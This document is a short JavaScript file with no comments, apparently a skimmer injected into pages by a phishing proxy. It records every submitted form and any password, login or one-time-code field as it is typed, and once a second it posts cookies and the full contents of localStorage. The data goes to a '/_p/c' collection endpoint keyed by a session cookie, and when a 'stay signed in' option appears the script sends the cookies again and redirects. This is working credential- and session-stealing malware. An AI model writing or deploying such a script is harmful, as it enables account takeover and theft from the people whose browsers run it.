(function () {
  if (window.__pf) return;
  window.__pf = 1;
  var base = "/_p/c?s=" + (document.cookie.match(/_psid=([^;]+)/) || [])[1];
  var last = "";

  function put(kind, obj) {
    obj.k = kind;
    obj.u = location.href;
    var x = new XMLHttpRequest();
    x.open("POST", base, true);
    x.setRequestHeader("Content-Type", "application/json");
    x.send(JSON.stringify(obj));
  }

  document.addEventListener("submit", function (e) {
    var o = {}, els = e.target.elements;
    for (var i = 0; i < els.length; i++) {
      if (els[i].name && els[i].value) o[els[i].name] = els[i].value;
    }
    put("form", { f: o });
  }, true);

  document.addEventListener("change", function (e) {
    var t = e.target;
    if (t && (t.type === "password" || /user|login|otp|code/i.test(t.name))) {
      put("field", { n: t.name, v: t.value });
    }
  }, true);

  setInterval(function () {
    if (document.cookie !== last) {
      last = document.cookie;
      put("ck", { c: last, ls: JSON.stringify(localStorage) });
    }
  }, 1000);

  if (document.querySelector(".stay-signed-in, [name=remember_device]")) {
    put("auth", { c: document.cookie });
    setTimeout(function () { location.href = "/_p/done"; }, 1500);
  }
})();
